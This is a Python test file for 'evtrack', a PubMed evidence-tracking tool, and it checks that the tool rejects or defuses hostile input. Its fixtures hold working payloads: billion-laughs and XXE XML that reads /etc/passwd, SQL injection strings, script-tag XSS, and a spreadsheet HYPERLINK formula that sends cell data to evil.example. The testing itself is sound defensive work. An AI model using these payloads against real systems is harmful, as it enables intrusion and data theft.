"""Hostile input, each case with a test: malformed claims files, bad identifiers, XML bombs,
undecodable bytes, SQL metacharacters and very long strings, spreadsheet formulas in CSV cells,
and databases from another evtrack version."""

from __future__ import annotations

import csv
import io
import json
import textwrap
from pathlib import Path
from xml.sax.saxutils import escape

import pandas as pd
import pytest
from alembic.script import ScriptDirectory
from click.testing import CliRunner
from conftest import migrate
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import create_engine, select, text, update

from evtrack import render as render_module
from evtrack.claims import load_claims
from evtrack.cli import cli
from evtrack.csvsafe import FORMULA_STARTS, read_csv, write_csv
from evtrack.render import claims_frame, links_frame
from evtrack.report import build_report
from evtrack.store.db import _alembic_config, head_revision, open_store
from evtrack.store.ledger import add_verdict
from evtrack.store.models import Claim, CuratedRef, Judgement, Link, Paper, Verdict

CLAIM = ('[[claim]]\nid = "{id}"\ntext = "Ketamine blocks NMDA receptors."\nsubject = "ketamine"'
         '\nrelation = "blocks"\nobject = "NMDA receptor"\n')


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, db_url: str):
    """``evtrack`` in-process, in a scratch directory, on the test database."""
    monkeypatch.chdir(tmp_path)
    for var in ("NCBI_EMAIL", "NCBI_API_KEY", "EVTRACK_DB", "EVTRACK_CONFIG",
                "EVTRACK_EUTILS_URL"):
        monkeypatch.delenv(var, raising=False)
    runner = CliRunner()

    def invoke(*args: str, **options: object):
        return runner.invoke(cli, ["--db", db_url, *args], **options)  # type: ignore[arg-type]
    return invoke


def one_error_line(output: str) -> str:
    lines = output.strip().splitlines()
    assert len(lines) == 1, output
    assert lines[0].startswith("Error: ") and "Traceback" not in output
    return lines[0]


# -- claims files --

CLAIMS_FILES = {
    "duplicate id": (CLAIM.format(id="B1") * 2, "claim B1: id: duplicate claim id"),
    "unknown key": (CLAIM.format(id="B1") + 'colour = "red"\n',
                    "claim B1: colour: unknown key"),
    "unknown nested key": (CLAIM.format(id="B1") + '[[claim.query]]\nname = "q"\nterm = "x"\n'
                           'weight = 2\n', "claim B1: query[0].weight: unknown key"),
    "unknown top-level key": ('colour = "red"\n' + CLAIM.format(id="B1"), "colour: unknown key"),
    "bad query": (CLAIM.format(id="B1") + '[[claim.query]]\nname = "q"\n'
                  'term = "(ketamine[tiab] AND"\n', "claim B1: query[0].term: invalid query"),
    "cycle": (CLAIM.format(id="B1") + 'leads_to = ["B2"]\n' + CLAIM.format(id="B2")
              + 'leads_to = ["B1"]\n', "claim B1: leads_to: leads_to edges form a cycle"),
    "edge to nowhere": (CLAIM.format(id="B1") + 'leads_to = ["B9"]\n',
                        "claim B1: leads_to[0]: unknown claim 'B9'"),
    "bad pmid": (CLAIM.format(id="B1") + '[[claim.curated]]\npmid = "12ab"\n'
                 'pmid_status = "verified"\nstance = "supports"\nnote = "n"\n',
                 "claim B1: curated[0].pmid: '12ab' is not a PMID"),
    "bad doi": (CLAIM.format(id="B1") + '[[claim.cited]]\nkey = "k"\njournal = "J"\n'
                'year = 2000\nvolume = "1"\nfirst_page = "1"\nauthor = "A B"\n'
                'doi = "not-a-doi"\n', "claim B1: cited[0].doi: 'not-a-doi' is not a DOI"),
    "toml syntax": (CLAIM.format(id="B1") + "text = \n", "line 7"),
}


@pytest.mark.parametrize("case", CLAIMS_FILES)
def test_a_bad_claims_file_is_one_error_line_naming_file_claim_and_key(
        run, tmp_path: Path, case: str) -> None:
    content, expected = CLAIMS_FILES[case]
    path = tmp_path / "bad.toml"
    path.write_text(content, encoding="utf-8")
    result = run("--claims", str(path), "claims", "list")
    assert result.exit_code == 1
    line = one_error_line(result.output)
    assert line.startswith(f"Error: {path}: ") and expected in line


def test_conflicting_files_name_both(run, tmp_path: Path) -> None:
    (tmp_path / "claims").mkdir()
    (tmp_path / "claims" / "a.toml").write_text(CLAIM.format(id="B1"), encoding="utf-8")
    (tmp_path / "claims" / "b.toml").write_text(CLAIM.format(id="B1"), encoding="utf-8")
    result = run("--claims", str(tmp_path / "claims"), "claims", "list")
    line = one_error_line(result.output)
    assert "b.toml: claim B1: id: duplicate claim id (first used in " in line
    assert "a.toml" in line


def test_claims_and_config_files_that_are_not_utf8(run, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "latin1.toml"
    path.write_bytes(CLAIM.format(id="B1").replace("Ketamine", "K\xe9tamine").encode("latin-1"))
    line = one_error_line(run("--claims", str(path), "claims", "list").output)
    assert line == f"Error: {path}: not UTF-8 text: byte 0xe9 at line 3, column 10"
    config = tmp_path / "evtrack.toml"
    config.write_bytes(b'email = "caf\xe9@example.org"\n')
    monkeypatch.setenv("EVTRACK_CONFIG", str(config))
    line = one_error_line(CliRunner().invoke(cli, ["status"]).output)
    assert line.startswith(f"Error: {config}: not a valid TOML config file")


# -- identifiers --


@pytest.mark.parametrize("pmid", ["12ab", "0", "007", "1234567890123", "١٢٣", "12 34", "-5"])
def test_an_xml_record_with_an_invalid_pmid_is_refused(run, tmp_path: Path, pmid: str,
                                                       db_url: str) -> None:
    path = tmp_path / "odd.xml"
    path.write_text(article_set(article(pmid, "A title")), encoding="utf-8")
    result = run("ingest", str(path))
    assert result.exit_code == 1
    assert "is not a PubMed id" in result.output.strip().splitlines()[-1]
    engine = open_store(db_url)
    with engine.connect() as conn:
        assert conn.scalars(select(Paper.pmid)).all() == []
    engine.dispose()


@pytest.mark.parametrize("pmid", ["12ab", "", "1; DROP TABLE papers"])
def test_a_verdict_on_an_invalid_pmid_is_a_clear_error(run, pmid: str) -> None:
    assert run("init").exit_code == 0
    result = run("verdict", "C1", pmid, "--stance", "supports")
    assert result.exit_code == 1
    assert one_error_line(result.output).startswith("Error: no ")


def test_hostile_markup_is_stored_verbatim_and_escaped_in_html(run, tmp_path: Path) -> None:
    doi = '10.1000/x"><script>alert(1)</script>'
    title = "NMDA <script>alert(2)</script> & ketamine"
    path = tmp_path / "doi.xml"
    path.write_text(article_set(article("31000001", escape(title), doi=escape(doi))),
                    encoding="utf-8")
    assert run("ingest", str(path)).exit_code == 0
    claims = tmp_path / "c.toml"
    claims.write_text(CLAIM.format(id="B1") + '[[claim.query]]\nname = "q"\n'
                      'term = "NMDA[ti]"\n', encoding="utf-8")
    assert run("--claims", str(claims), "refresh", "--offline").exit_code == 0
    shown = json.loads(run("report", "--format", "json").output)
    rows = [r for c in shown["claims"] for r in c["links"] if r["pmid"] == "31000001"]
    assert [(r["doi"], r["title"]) for r in rows] == [(doi, title)]
    page = run("report", "--format", "html").output
    assert "<script>alert(" not in page
    assert "NMDA &lt;script&gt;alert(2)&lt;/script&gt; &amp; ketamine" in page


# -- XML --


def article(pmid: str, title: str, doi: str | None = None) -> str:
    ids = f'<ArticleIdList><ArticleId IdType="doi">{doi}</ArticleId></ArticleIdList>' if doi else ""
    return (f"<PubmedArticle><MedlineCitation><PMID>{pmid}</PMID><Article><ArticleTitle>{title}"
            f"</ArticleTitle></Article></MedlineCitation><PubmedData>{ids}</PubmedData>"
            "</PubmedArticle>")


def article_set(*articles: str, prolog: str = "") -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<PubmedArticleSet>' \
           f'{"".join(articles)}</PubmedArticleSet>'


BOMBS = {
    "billion laughs": article_set(article("31000002", "&lol9;"), prolog=(
        '<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" if i > 1 else "&lol;"}' * 1 + ("&lol;" * 9)
                  + '">' for i in range(1, 10)) + "]>")),
    "external entity": article_set(article("31000003", "&xxe;"), prolog=(
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')),
    "external DTD": article_set(article("31000004", "&nbsp;"), prolog=(
        '<!DOCTYPE PubmedArticleSet SYSTEM "http://127.0.0.1:9/evil.dtd">')),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_xml_bombs_are_refused_and_nothing_is_stored(run, tmp_path: Path, bomb: str,
                                                     db_url: str) -> None:
    path = tmp_path / "bomb.xml"
    path.write_text(BOMBS[bomb], encoding="utf-8")
    result = run("ingest", str(path))
    assert result.exit_code == 1
    last = result.output.strip().splitlines()[-1]
    assert last.startswith(f"Error: {path}") and ("entit" in last or "entity" in last), last
    engine = open_store(db_url)
    with engine.connect() as conn:
        assert conn.scalars(select(Paper.pmid)).all() == []
    engine.dispose()


@pytest.mark.slow
def test_a_huge_text_node_is_stored_whole(run, tmp_path: Path, db_url: str) -> None:
    title = "ketamine " * 1_000_000  # 9 MB in one text node
    path = tmp_path / "huge.xml"
    path.write_text(article_set(article("31000005", title)), encoding="utf-8")
    result = run("ingest", str(path))
    assert result.exit_code == 0, result.output
    engine = open_store(db_url)
    with engine.connect() as conn:
        stored = conn.scalar(select(Paper.title).where(Paper.pmid == "31000005"))
    assert stored == title.strip()
    engine.dispose()


def test_undecodable_bytes_are_an_error_and_declared_encodings_are_honoured(
        run, tmp_path: Path, db_url: str) -> None:
    bad = tmp_path / "bad.xml"
    bad.write_bytes(article_set(article("31000006", "caf\udce9")).encode("utf-8",
                                                                          "surrogateescape"))
    result = run("ingest", str(bad))
    assert result.exit_code == 1
    assert "not UTF-8" in result.output.strip().splitlines()[-1]
    latin = tmp_path / "latin.xml"
    latin.write_bytes(article_set(article("31000007", "café")).replace(
        'encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1"))
    assert run("ingest", str(latin)).exit_code == 0
    engine = open_store(db_url)
    with engine.connect() as conn:
        assert conn.scalars(select(Paper.title)).all() == ["café"]
    engine.dispose()


# -- SQL metacharacters and long strings --

NASTY = ("Robert'); DROP TABLE claims; -- 100% of \\\"ketamine\\\" _blocks_ NMDA receptors "
         "(p<0.05 & q>1) 氯胺酮 ")


def test_claim_texts_and_notes_are_stored_and_reported_verbatim(run, tmp_path: Path,
                                                                db_url: str) -> None:
    long_text = NASTY + "x" * 60_000
    long_note = NASTY * 2 + "y" * 80_000
    path = tmp_path / "nasty.toml"
    path.write_text(
        f'[[claim]]\nid = "B1"\ntext = "{long_text}"\nsubject = "ketamine"\n'
        'relation = "blocks"\nobject = "NMDA receptor"\n'
        '[[claim.query]]\nname = "q"\nterm = "ketamine[tiab]"\n'
        f'[[claim.curated]]\npmid = "21677641"\npmid_status = "verified"\n'
        f'stance = "supports"\nnote = "{long_note}"\n', encoding="utf-8")
    loaded = load_claims([path]).claims[0]
    assert loaded.text.startswith("Robert'); DROP TABLE claims; -- 100% of \"ketamine\"")
    result = run("--claims", str(path), "refresh", "--offline")
    assert result.exit_code == 0, result.output
    note = NASTY + "'; DELETE FROM verdicts; --\t" + "z" * 50_000
    assert run("verdict", "B1", "21677641", "--stance", "contradicts", "--note", note,
               "--reviewer", "O'Brien; --").exit_code == 0

    engine = open_store(db_url)
    with engine.connect() as conn:
        assert conn.scalar(select(Claim.text).where(Claim.id == "B1")) == loaded.text
        assert conn.scalar(select(CuratedRef.note)) == loaded.curated[0].note
        assert conn.execute(select(Verdict.note, Verdict.reviewer)).one() == (note, "O'Brien; --")
        assert conn.execute(text("SELECT count(*) FROM claims")).scalar() == 1  # still there
    engine.dispose()
    shown = json.loads(run("report", "--format", "json").output)["claims"][0]
    assert shown["text"] == loaded.text
    row = next(r for r in shown["links"] if r["pmid"] == "21677641")
    assert (row["rationale"], row["decided_by"]) == (note, "O'Brien; --")
    assert shown["curated"][0]["note"] == loaded.curated[0].note


# -- CSV --

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'already quoted", "''twice", "NA", "null", "nan", "-0.5",
            "plain text", "0012345"]


def runnable(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would run: formula-like, and not simply a (negative) number."""
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not number(c)]


@pytest.fixture
def formula_ledger(db_url: str, tmp_path: Path):
    """A ledger whose text cells (verdict notes, reviewers) start like formulas."""
    claims = tmp_path / "f.toml"
    claims.write_text(CLAIM.format(id="B1") + '[[claim.query]]\nname = "q"\n'
                      'term = "ketamine[tiab]"\n', encoding="utf-8")
    result = CliRunner().invoke(cli, ["--db", db_url, "--claims", str(claims), "refresh",
                                      "--offline"])
    assert result.exit_code == 0, result.output
    engine = open_store(db_url)
    with engine.begin() as conn:
        pmids = conn.scalars(select(Paper.pmid).order_by(Paper.pmid)).all()
        for pmid, value in zip(pmids, FORMULAS, strict=False):
            add_verdict(conn, "B1", pmid, stance="supports", reviewer=value, note=value)
    yield engine
    engine.dispose()


def test_export_neutralises_formulas_and_read_csv_gives_the_frames_back(
        formula_ledger, tmp_path: Path) -> None:
    from evtrack.export import export_csv
    report = build_report(formula_ledger)
    written = dict(export_csv(report, tmp_path / "out"))
    links_csv = tmp_path / "out" / "links.csv"
    with open(links_csv, newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not runnable(cells)  # nothing a spreadsheet would run
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells
    expected = links_frame(report)
    assert set(FORMULAS) <= set(expected["rationale"])  # the test data really is in the export
    back = read_csv(links_csv)
    pd.testing.assert_frame_equal(back, expected.fillna(pd.NA).replace({"": pd.NA}),
                                  check_dtype=False)
    assert back["pmid"].tolist() == expected["pmid"].tolist()  # still text
    assert written[links_csv] == len(back)
    claims_back = read_csv(tmp_path / "out" / "claims.csv")
    pd.testing.assert_frame_equal(claims_back, claims_frame(report).replace({"": pd.NA}),
                                  check_dtype=False)


def test_streamed_links_csv_defuses_the_links_no_score_depends_on(
        formula_ledger, tmp_path: Path) -> None:
    """A summary report's links.csv writes most links straight from the store (not through
    pandas): hostile titles, rationales and judge names there come out as the full report's."""
    from evtrack.export import export_csv
    hostile = [*FORMULAS, 'two\r\nlines, a "quote"', "'already quoted", "ünïcode ≥ 2"]
    with formula_ledger.begin() as conn:
        judged = conn.execute(select(Judgement.id, Link.paper_id)
                              .join(Link, Link.id == Judgement.link_id)
                              .where(Judgement.stance.not_in(("supports", "contradicts", "mixed")),
                                     Link.id.not_in(select(Verdict.link_id)))
                              .order_by(Judgement.id)).all()
        assert len(judged) >= len(hostile)
        for (jid, paper_id), value in zip(judged, hostile, strict=False):
            conn.execute(update(Judgement).where(Judgement.id == jid)
                         .values(rationale=value, decided_by=value))
            conn.execute(update(Paper).where(Paper.id == paper_id).values(title=value))
    full, summary = build_report(formula_ledger), build_report(formula_ledger, full=False)
    named = {r.pmid for c in summary.claims for r in c.links}
    unnamed = [r for c in full.claims for r in c.links if r.pmid not in named]
    assert set(hostile) <= {r.title for r in unnamed}  # the streamed path really writes them
    export_csv(full, tmp_path / "full")
    export_csv(summary, tmp_path / "summary", engine=formula_ledger, chunk=1)
    streamed = (tmp_path / "summary" / "links.csv").read_bytes()
    assert streamed == (tmp_path / "full" / "links.csv").read_bytes()
    with open(tmp_path / "summary" / "links.csv", newline="", encoding="utf-8") as handle:
        assert not runnable([cell for row in csv.reader(handle) for cell in row])


def test_report_csv_on_standard_output_is_neutralised_too(formula_ledger, db_url: str) -> None:
    result = CliRunner().invoke(cli, ["--db", db_url, "report", "--format", "csv"])
    assert result.exit_code == 0
    cells = [c for row in csv.reader(io.StringIO(result.output, newline="")) for c in row]
    assert cells and not runnable(cells)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",),
                                      blacklist_characters="\x00"), min_size=1),
                min_size=1, max_size=8))
def test_any_text_survives_write_csv_then_read_csv(tmp_path_factory, values: list[str]) -> None:
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    frame = pd.DataFrame({"pmid": ["1"] * len(values), "text": values,
                          "n": range(len(values))})
    write_csv(frame, path)
    back = read_csv(path, dtype={"text": str})  # a text column of digits must be declared
    assert back["text"].tolist() == values
    assert back["n"].tolist() == list(range(len(values)))


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.none(), st.text(), st.text(alphabet=" \t\n\u00a0\u2003ab-…")),
       st.integers(1, 90))
def test_the_tables_shortened_texts_are_textwraps(text: str | None, width: int) -> None:
    """The table's shortcut for texts that fit gives what ``textwrap.shorten`` gives, for any
    whitespace (tabs, newlines, Unicode spaces) and any width."""
    assert render_module._short(text, width) == textwrap.shorten(text or "", width=width,
                                                                 placeholder="…")


# -- schema versions --


def test_a_database_from_a_newer_evtrack_is_refused_by_every_command(run, db_url: str) -> None:
    open_store(db_url).dispose()
    engine = create_engine(db_url)
    with engine.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = 'f00dfacef00d'"))
    engine.dispose()
    for command in (["status"], ["report"], ["refresh", "--offline"]):
        result = run(*command)
        assert result.exit_code == 1
        line = one_error_line(result.output)
        assert "has schema revision f00dfacef00d, which this evtrack does not know" in line
        assert "Upgrade evtrack" in line


def older_revisions() -> list[str | None]:
    script = ScriptDirectory.from_config(_alembic_config())
    return [None, *(r.revision for r in script.walk_revisions() if r.revision != head_revision())]


@pytest.mark.parametrize("revision", older_revisions())
def test_a_database_from_an_older_evtrack_is_migrated(run, db_url: str,
                                                      revision: str | None) -> None:
    engine = create_engine(db_url)
    if revision is not None:
        migrate(engine, revision)
    engine.dispose()
    result = run("init")
    assert result.exit_code == 0, result.output
    assert f"(schema {head_revision()})" in result.output
